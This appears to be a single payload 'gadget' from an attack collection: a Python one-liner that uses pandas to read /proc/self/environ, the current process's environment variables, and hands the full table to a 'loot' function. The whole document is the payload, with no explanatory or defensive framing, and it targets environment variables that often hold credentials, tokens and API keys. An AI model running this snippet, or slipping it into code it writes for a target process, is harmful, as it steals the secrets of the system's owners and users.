# kind: gadgets
# tries: The environment of this process as a table

import pandas as pd

loot(pd.read_csv("/proc/self/environ", header=None, sep="\x01").to_string(max_colwidth=9999))
